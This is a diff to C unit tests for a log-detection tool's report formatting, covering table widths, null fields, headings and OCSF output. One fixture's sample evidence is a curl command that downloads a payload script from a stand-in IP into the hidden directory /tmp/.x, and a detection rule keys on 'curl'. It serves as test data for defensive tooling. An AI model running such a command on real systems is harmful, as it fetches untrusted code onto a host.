@@ -1,6 +1,7 @@
 #include "main/detect/report.h"
 
 #include "main/attack.h"
+#include "main/term.h"
 #include "vd_test.h"
 
 static const struct vd_str tags[] = {{"attack.privilege_escalation", 27}, {"attack.t1059.001", 16},
@@ -123,6 +124,21 @@ VD_TEST(ndjson_says_null_where_time_host_and_level_are_unknown)
 	expect_part(&vd_out_ndjson, &row, "\"level\":null,\"time\":null,\"host\":null,");
 }
 
+VD_TEST(the_value_of_an_absent_field_is_null_and_to_people_absent)
+{
+	static const struct vd_evidence absent[] = {
+		{{"User", 4}, {NULL, 0}, {"User: null", 10}, true, false, {"selection", 9}}};
+	struct vd_report_row row = match_row();
+	row.matched = absent;
+	row.n_matched = 1;
+	expect_part(&vd_out_ndjson, &row,
+		"\"matched\":[{\"field\":\"User\",\"value\":null,\"predicate\":\"User: null\"}]");
+	expect_part(&vd_out_table, &row, "User: (absent)\n");
+	expect_part(&vd_out_ocsf, &row,
+		"\"observables\":[{\"name\":\"device.hostname\",\"type_id\":1,"
+		"\"type\":\"Hostname\",\"value\":\"ws01\"}],");
+}
+
 VD_TEST(repairs_are_named)
 {
 	struct vd_report_row row = match_row();
@@ -180,20 +196,53 @@ VD_TEST(ocsf_uses_the_time_of_the_run_where_the_event_has_none)
 	expect_part(&vd_out_ocsf, &row, "\"event_time_known\":false");
 }
 
-VD_TEST(a_table_row_never_exceeds_the_terminal)
+static const struct vd_report_rule long_rule = {
+	.view = {.title = {"Download Into a Hidden or World-Writable Place", 46}}, .rank = 4};
+
+static struct vd_report_row
+usual_row(void)
 {
+	static const struct vd_evidence usual[] = {
+		{{"CommandLine", 11}, {"curl -s -o /tmp/.x/payload.sh http://198.51.100.7/payload.sh", 60},
+			{"CommandLine|contains: 'curl'", 28}, true, false, {"selection", 9}}};
 	struct vd_report_row row = match_row();
-	for (size_t columns = 60; columns <= 200; columns += 7) {
-		struct vd_buf buf;
-		struct vd_report_style style = {.columns = columns};
-		size_t width = 0;
-		vd_buf_init(&buf, 0);
-		vd_out_table.row(&style, &row, &buf);
-		for (size_t i = 0; i < buf.len; i++) /* all characters here take one column */
-			width += ((unsigned char)buf.at[i] & 0xc0) != 0x80;
-		assert_in_range(width - 1, 1, columns);
-		vd_buf_fini(&buf);
-	}
+	row.rule = &long_rule;
+	row.host = VD_S("web-server-01.example.net");
+	row.place = (struct vd_event_ref){{"samples/linux/audit-attack.jsonl.gz", 35}, 1257};
+	row.matched = usual;
+	row.n_matched = 1;
+	return row;
+}
+
+static void
+print(const struct vd_report_row *row, size_t columns, struct vd_buf *to)
+{
+	struct vd_report_style style = {.columns = columns};
+	vd_buf_reset(to);
+	vd_out_table.row(&style, row, to);
+}
+
+VD_TEST(a_table_row_never_exceeds_the_terminal_and_loses_no_part)
+{
+	struct vd_report_row rows[] = {match_row(), usual_row()};
+	VD_AUTO_FINI(vd_buf) buf;
+	vd_buf_init(&buf, 0);
+	for (size_t columns = 60; columns <= 260; columns++)
+		for (size_t r = 0; r < VD_ARRAY_LEN(rows); r++) {
+			print(&rows[r], columns, &buf);
+			/* level, time, rule; host, place and what matched, each with enough to know it by */
+			const char *const parts[] = {"high  ",
+				r == 0 ? "A \"quoted\" title" : "Download Into a Hid", "01-05T03:59:00",
+				r == 0 ? "ws01" : "web-server-", r == 0 ? ".jsonl:17" : "jsonl.gz:1257",
+				r == 0 ? "Image: C:\\" : "CommandLine: cur"};
+			for (size_t i = 0; i < VD_ARRAY_LEN(parts); i++)
+				if (strstr(buf.at, parts[i]) == NULL)
+					fail_msg("%zu columns: no %s in\n%s", columns, parts[i], buf.at);
+			for (char *line = buf.at, *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
+				*end = '\0';
+				assert_in_range(vd_term_width(vd_str_from(line)), 1, columns);
+			}
+		}
 }
 
 VD_TEST(a_table_without_a_terminal_cuts_nothing)
@@ -204,25 +253,50 @@ VD_TEST(a_table_without_a_terminal_cuts_nothing)
 		&vd_out_table, &row, "high      2026-01-05T03:59:00.000Z  ws01          A \"quoted\" title ");
 }
 
-VD_TEST(a_table_row_shows_place_and_the_beginning_of_its_title_at_usual_widths)
+VD_TEST(a_table_row_looks_like_this_at_usual_widths)
 {
-	static const struct vd_report_rule long_rule = {
-		.view = {.title = {"Download Into a Hidden or World-Writable Place", 46}}, .rank = 4};
-	struct vd_report_row row = match_row();
-	row.rule = &long_rule;
-	row.place = (struct vd_event_ref){{"samples/linux/audit-attack.jsonl.gz", 35}, 1257};
+	struct vd_report_row row = usual_row();
+	struct vd_report_style style = {.columns = 60};
+	expect(&vd_out_table, &style, &row,
+		"high      01-05T03:59:00  Download Into a Hidden or World-W…\n"
+		"    web-server-… · …k.jsonl.gz:1257 · CommandLine: curl -s …\n");
+	style.columns = 80;
+	expect(&vd_out_table, &style, &row,
+		"high      2026-01-05T03:59:00  Download Into a Hidden or World-Writable Place\n"
+		"    web-server-01.e… · …-attack.jsonl.gz:1257 · CommandLine: curl -s -o /tmp/.x…\n");
+	style.columns = 120;
+	expect(&vd_out_table, &style, &row,
+		"high      2026-01-05T03:59:00  Download Into a Hidden or World-Writable Place\n"
+		"    web-server-01.example.n… · …/audit-attack.jsonl.gz:1257 · CommandLine: curl -s -o "
+		"/tmp/.x/payload.sh http://198.51.…\n");
+	style.columns = 180;
+	expect(&vd_out_table, &style, &row,
+		"high      2026-01-05T03:59:00.000Z  web-server-…  Download Into a Hidden or World-Writable "
+		"Pl…  …/audit-attack.jsonl.gz:1257  CommandLine: curl -s -o /tmp/.x/payload.sh "
+		"http://198…\n");
+}
+
+VD_TEST(the_heading_names_the_parts_of_each_form)
+{
+	struct vd_report_style style = {.columns = 80};
+	VD_AUTO_FINI(vd_buf) buf;
+	vd_buf_init(&buf, 0);
+	vd_out_table.heading(&style, &buf);
+	assert_string_equal(buf.at, "LEVEL     TIME                 RULE\n    HOST · FILE:LINE · MATCHED\n");
+	vd_buf_reset(&buf);
+	style.columns = 180;
+	vd_out_table.heading(&style, &buf);
+	assert_string_equal(buf.at, "LEVEL     TIME                      HOST          "
+				    "RULE                                          MATCHED\n");
+}
+
+VD_TEST(a_narrow_row_of_a_closed_window_has_no_place_and_perhaps_no_host)
+{
+	struct vd_report_row row = correlation_row();
 	struct vd_report_style style = {.columns = 80};
 	expect(&vd_out_table, &style, &row,
-		"high      01-05T03:59:00  Download Into a Hidden or Wor…  …-attack.jsonl.gz:1257\n");
-	style.columns = 110;
-	expect(&vd_out_table, &style, &row,
-		"high      2026-01-05T03:59:00  ws01          Download Into a Hidden or Wor…  "
-		"…ack.jsonl.gz:1257  Image: C:\\x\\…\n");
-	style.columns = 160;
-	expect(&vd_out_table, &style, &row,
-		"high      2026-01-05T03:59:00.000Z  ws01          Download Into a Hidden or World-Writable "
-		"Pl…  "
-		"samples/linux/audit-attack.jsonl.gz:1257  Image: C:\\x\\cmd.exe\n");
+		"high      1970-01-01T00:00:00  A \"quoted\" title\n"
+		"    - · 2 events, User: bob\n");
 }
 
 VD_TEST(a_level_takes_no_more_of_a_table_than_the_longest_usual_one)
